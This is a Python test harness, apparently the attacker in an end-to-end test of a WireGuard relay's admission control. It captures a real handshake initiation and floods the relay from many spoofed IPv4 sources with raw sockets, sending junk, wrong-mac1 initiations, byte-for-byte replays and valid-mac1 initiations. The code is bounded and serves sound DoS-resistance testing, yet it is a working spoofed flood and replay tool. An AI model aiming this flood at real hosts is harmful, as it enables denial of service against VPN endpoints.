#!/usr/bin/env python3
"""The attacker of the wg_admission scenario (tests/e2e/run.sh): capture one real WireGuard handshake
initiation on the wire, and flood the relay from many spoofed IPv4 source addresses.

  wgflood.py capture IFACE PORT OUTFILE SECONDS
      Wait at most SECONDS for a UDP datagram to PORT on IFACE that is a handshake initiation (type 1,
      148 bytes); write its payload as hex to OUTFILE. Exit 0 when captured, 1 on timeout.
  wgflood.py flood KIND DST_IP DST_PORT SRC_BASE SOURCES RATE SECONDS [ARG]
      Send from SOURCES addresses SRC_BASE, SRC_BASE+1, ... (one UDP port each), each source RATE datagrams a
      second, for at most SECONDS seconds, to DST_IP:DST_PORT only. KIND:
        junk  ARG = hex of a captured initiation: the sources take turns sending garbage of random length,
              148-byte "initiations" with a wrong mac1, and the captured initiation replayed byte for byte
        init  ARG = the server's public key (base64): fresh initiations with a valid mac1 (random bytes
              otherwise, so the server cannot decrypt them), as an attacker who knows the public key would
      mixed ARG = one home's server public key (base64), for a relay with --homes: the sources take turns
              sending garbage, 148-byte initiations with a wrong mac1 (valid for no home) and fresh
              initiations with a valid mac1 for that key (as init)
      Prints one line of figures when done (or on SIGTERM).

Runs inside the test's namespaces only (the caller's `ip netns exec`): the destination is a command-line
argument, and the raw socket is bound to nothing else. Bounded: SECONDS and SOURCES * RATE * SECONDS datagrams.
Bad input: one line on stderr, exit status 2.
"""
import base64
import hashlib
import ipaddress
import os
import random
import signal
import socket
import struct
import sys
import time

INITIATION_LEN = 148
MAC1_AT = 116
ETH_P_IP = 0x0800


def usage(msg):
    print(f"wgflood.py: {msg}", file=sys.stderr)
    sys.exit(2)


def capture(iface, port, outfile, seconds):
    """AF_PACKET on IFACE: the IPv4 packets it carries, headers included, without any capture tool."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    s.bind((iface, 0))
    print(f"capturing on {iface}", flush=True)  # the caller waits for this line before the handshake
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        s.settimeout(left)
        try:
            pkt = s.recv(65535)
        except socket.timeout:
            break
        if len(pkt) < 20 or pkt[0] >> 4 != 4 or pkt[9] != socket.IPPROTO_UDP:
            continue
        ihl = (pkt[0] & 0x0F) * 4
        udp = pkt[ihl:]
        if len(udp) < 8 or struct.unpack("!H", udp[2:4])[0] != port:
            continue
        payload = udp[8:]
        if len(payload) == INITIATION_LEN and payload[:4] == b"\x01\x00\x00\x00":
            with open(outfile, "w") as f:
                f.write(payload.hex() + "\n")
            return 0
    return 1


def ip_udp(src, sport, dst, dport, payload):
    """IPv4 header (the kernel fills in the checksum and the id, left zero) + UDP with checksum 0 (none)."""
    total = 20 + 8 + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
    return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def payloads(kind, arg):
    """An endless supply of datagrams of KIND; deterministic (seeded) so that a run can be repeated."""
    rng = random.Random(20240901)
    if kind == "junk":
        try:
            replay = bytes.fromhex(arg)
        except ValueError:
            usage("junk: ARG is not hex")
        if len(replay) != INITIATION_LEN or replay[0] != 1:
            usage("junk: ARG is not a 148-byte handshake initiation")
        return junk(rng, replay)
    if kind in ("init", "mixed"):
        try:
            pk = base64.b64decode(arg, validate=True)
        except ValueError:
            pk = b""
        if len(pk) != 32:
            usage(f"{kind}: ARG is not a base64 public key of 32 bytes")
        key = hashlib.blake2s(b"mac1----" + pk).digest()
        return initiations(rng, key) if kind == "init" else mixed(rng, initiations(rng, key))
    usage(f"unknown flood kind: {kind}")


def garbage(rng):
    """Neither an initiation nor control-shaped (first byte 0x80..0xfe), of random length."""
    return bytes([rng.randrange(0x80, 0xff)]) + rng.randbytes(rng.randrange(7, 300))


def bad_mac1(rng):
    """Looks like an initiation, but the mac1 is wrong (for every key, but with chance 2^-128)."""
    return b"\x01\x00\x00\x00" + rng.randbytes(INITIATION_LEN - 4)


def junk(rng, replay):
    n = 0
    while True:
        if n % 3 == 0:
            yield garbage(rng)
        elif n % 3 == 1:
            yield bad_mac1(rng)
        else:  # the real initiation, replayed
            yield replay
        n += 1


def mixed(rng, valid):
    n = 0
    while True:
        if n % 3 == 0:
            yield garbage(rng)
        elif n % 3 == 1:
            yield bad_mac1(rng)
        else:  # fresh, with a valid mac1 for the one key
            yield next(valid)
        n += 1


def initiations(rng, key):
    while True:
        body = b"\x01\x00\x00\x00" + rng.randbytes(MAC1_AT - 4)
        mac1 = hashlib.blake2s(body, digest_size=16, key=key).digest()
        yield body + mac1 + bytes(16)  # no cookie: mac2 all zero


def flood(kind, dst, dport, base, sources, rate, seconds, arg):
    gen = payloads(kind, arg)
    dst_b = ipaddress.IPv4Address(dst).packed
    srcs = [((ipaddress.IPv4Address(base) + i).packed, 20000 + i) for i in range(sources)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # implies IP_HDRINCL
    sent = errors = 0
    t0 = time.monotonic()
    stats = {"done": False}

    def report(*_):
        if not stats["done"]:
            stats["done"] = True
            el = time.monotonic() - t0
            print(f"flood {kind}: {sent} datagrams from {sources} sources in {el:.1f} s "
                  f"({sent / max(el, 1e-3):.0f}/s), {errors} send errors", flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, report)
    interval = 1.0 / rate      # one round: every source sends once
    batch = 50                 # datagrams between checks of the clock
    for rnd in range(int(seconds * rate)):
        start = t0 + rnd * interval
        for i in range(0, sources, batch):
            # spread each round evenly over its interval
            due = start + interval * i / sources
            if (wait := due - time.monotonic()) > 0:
                time.sleep(wait)
            for src, sport in srcs[i:i + batch]:
                try:
                    s.sendto(ip_udp(src, sport, dst_b, dport, next(gen)), (dst, 0))
                    sent += 1
                except OSError:  # ENOBUFS when the link's queue is full: count it, go on
                    errors += 1
        if time.monotonic() - t0 > seconds:
            break
    report()


def main(argv):
    if len(argv) >= 2 and argv[1] == "capture" and len(argv) == 6:
        try:
            port, seconds = int(argv[3]), float(argv[5])
        except ValueError:
            usage("capture: PORT and SECONDS must be numbers")
        return capture(argv[2], port, argv[4], seconds)
    if len(argv) >= 2 and argv[1] == "flood" and len(argv) == 10:
        _, _, kind, dst, dport, base, sources, rate, seconds, arg = argv
        try:
            dport, sources, rate, seconds = int(dport), int(sources), float(rate), float(seconds)
            ipaddress.IPv4Address(dst), ipaddress.IPv4Address(base)
        except ValueError as e:
            usage(f"flood: {e}")
        if not (0 < sources <= 65536 and 0 < rate <= 100 and 0 < seconds <= 600):
            usage("flood: SOURCES 1..65536, RATE 0..100 a second, SECONDS 0..600")
        return flood(kind, dst, dport, base, sources, rate, seconds, arg)
    usage("usage: wgflood.py capture IFACE PORT OUTFILE SECONDS | "
          "flood KIND DST_IP DST_PORT SRC_BASE SOURCES RATE SECONDS ARG")


if __name__ == "__main__":
    sys.exit(main(sys.argv))
